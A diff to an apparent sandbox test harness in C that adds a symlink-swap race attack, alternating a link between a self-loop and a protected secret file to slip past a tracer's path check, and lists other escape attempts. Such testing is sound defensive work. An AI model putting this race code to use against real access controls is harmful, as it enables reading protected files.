@@ -284,6 +284,45 @@ static int a_race_dir_swap(void) {
 	return stopped("directory swap race");
 }
 
+// A second thread swaps a symlink between a loop (it points at itself) and
+// the secret: a walk that meets the loop has only a lexical name to show,
+// which names no protected file.
+static char loop_link[8192], loop_tmp[8192];
+static void *loop_swapper(void *arg) {
+	(void)arg;
+	while (!stop_flag) {
+		unlink(loop_tmp);
+		symlink("lswap", loop_tmp);
+		rename(loop_tmp, loop_link);
+		unlink(loop_tmp);
+		symlink(P_SECRET, loop_tmp);
+		rename(loop_tmp, loop_link);
+	}
+	return NULL;
+}
+
+static int a_race_loop_swap(void) {
+	snprintf(loop_link, sizeof loop_link, "%s/lswap", P_WORK);
+	snprintf(loop_tmp, sizeof loop_tmp, "%s/lswap.tmp", P_WORK);
+	symlink("lswap", loop_link);
+	pthread_t t;
+	pthread_create(&t, NULL, loop_swapper, NULL);
+	int wins = 0, opened = 0, tries = 5000;
+	for (int i = 0; i < tries; i++) {
+		int fd = open(loop_link, O_RDONLY);
+		if (fd < 0) continue;
+		opened++;
+		if (read_is_secret(fd)) wins++;
+		close(fd);
+	}
+	stop_flag = 1;
+	pthread_join(t, NULL);
+	printf("symlink swap (loop): %d tries, %d opened, %d got the secret\n", tries, opened, wins);
+	if (wins) { printf("BYPASS: loop swap race won %d times\n", wins); return 0; }
+	errno = EACCES;
+	return stopped("loop swap race");
+}
+
 // A second thread rewrites the path buffer between the tracer's check and the
 // kernel's use.
 static char flip_buf[4096];
@@ -630,6 +669,7 @@ static const struct attack attacks[] = {
 	{"userns-bind-mount", a_userns_bind_mount},
 	{"race-symlink-swap", a_race_symlink_swap},
 	{"race-dir-swap", a_race_dir_swap},
+	{"race-loop-swap", a_race_loop_swap},
 	{"race-toctou", a_race_toctou},
 	{"exec-direct", a_exec_direct},
 	{"exec-ldso", a_exec_ldso},
